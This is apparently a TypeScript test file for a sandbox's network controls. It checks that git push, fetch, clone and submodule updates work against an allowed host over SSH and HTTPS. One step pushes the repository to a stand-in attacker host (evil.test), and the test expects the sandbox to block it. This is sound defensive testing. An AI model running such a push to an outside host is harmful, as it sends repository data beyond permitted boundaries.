/** The sandbox's own git directory against real servers: OpenSSH, and git's HTTP server behind TLS. */
import { expect } from 'bun:test'
import { spawnSync } from 'node:child_process'
import { copyFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Project } from './project.ts'
import { startSshd } from './services.ts'
import { runSteps } from './steps.ts'
import { forEachKind, type World } from './world.ts'

const GIT =
  'git -c user.name=a -c user.email=a@example.com -c init.defaultBranch=main -c protocol.file.allow=always'
const SSH = 'ssh -i ./user-key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR'

const must = (argv: readonly string[], cwd: string): string => {
  const [program = '', ...rest] = argv
  const { status, stdout, stderr } = spawnSync(program, rest, { cwd, encoding: 'utf8' })
  if (status !== 0) throw new Error(`${argv.join(' ')}: ${stderr}`)
  return stdout
}

/** Bare repositories of this test, at `https://allowed.test/git/NAME`. */
function serve(world: World, project: Project): { readonly server: string; readonly url: string } {
  const name = `${project.user}-${process.pid}`
  const server = join(world.dir, 'www/git', name)
  const script = `mkdir -p ${server}; cd ${server}
    for repository in main lib; do ${GIT} init -q --bare $repository; git -C $repository config http.receivepack true; done
    ${GIT} clone -q lib work 2>/dev/null; cd work; echo library >lib.txt; ${GIT} add .; ${GIT} commit -qm lib; git push -q`
  must(['sh', '-ec', script], world.dir)
  return { server, url: `https://allowed.test/git/${name}` }
}

const onHost = (world: World, project: Project, script: string): string =>
  must(
    [
      ...world.on('host', project.user),
      'env',
      '-C',
      project.workspace,
      `HOME=${project.home}`,
      'sh',
      '-ec',
      script,
    ],
    project.workspace,
  )

forEachKind(
  'P24 git clones, pushes, fetches and updates submodules over SSH and HTTPS, and the host has the commits',
  async (world, project) => {
    await startSshd(world)
    copyFileSync(join(world.dir, 'user-key'), join(project.workspace, 'user-key'))
    project.adopt('user-key')
    const { server, url } = serve(world, project)
    onHost(
      world,
      project,
      `${GIT} init -q .; echo user-key >.git/info/exclude; echo .steps.sh >>.git/info/exclude
      ${GIT} commit -q --allow-empty -m first; git config user.name a; git config user.email a@example.com`,
    )
    const { steps } = await runSteps(
      project,
      {
        https: `git remote add origin ${url}/main; echo one >one; git add one; git commit -qm one; git push -q -u origin main`,
        again: 'echo two >two; git add two; git commit -qm two; git push -q',
        ssh: `GIT_SSH_COMMAND='${SSH}' git push -q root@allowed.test:${server}/main main:by-ssh`,
        fetch: `GIT_SSH_COMMAND='${SSH}' git fetch -q root@allowed.test:${server}/main by-ssh && git rev-parse FETCH_HEAD`,
        clone: `git clone -q ${url}/lib /tmp/clone && cat /tmp/clone/lib.txt`,
        submodule: `git switch -q -c with-lib; git submodule --quiet add ${url}/lib lib && git commit -qm lib && git submodule --quiet update --init && cat lib/lib.txt && rm -rf lib && git switch -q main`,
        evil: `git push -q https://evil.test/git/main main`,
      },
      { allow: ['allowed.test:443', 'allowed.test:22'] },
    )
    const { evil, ...fine } = steps
    expect(Object.values(fine).map(({ code, said }) => (code === 0 ? '' : said))).toEqual(
      Object.keys(fine).map(() => ''),
    )
    const id = onHost(world, project, 'git rev-parse main').trim()
    expect(steps.fetch.said).toBe(`${id}\n`)
    expect([steps.clone.said, steps.submodule.said]).toEqual(['library\n', 'library\n'])
    expect(evil.code).not.toBe(0)
    const heads = must(['git', 'for-each-ref', '--format=%(objectname) %(refname)'], join(server, 'main'))
    expect(heads).toBe(`${id} refs/heads/by-ssh\n${id} refs/heads/main\n`)
    // The commit with a submodule waits for consent, also when its branch came over before. Remotes stay inside.
    expect(onHost(world, project, 'git log --branches --format=%s; git remote')).toBe('two\none\nfirst\n')
    expect(onHost(world, project, 'git status --short; git fsck --strict')).toBe('')
  },
)
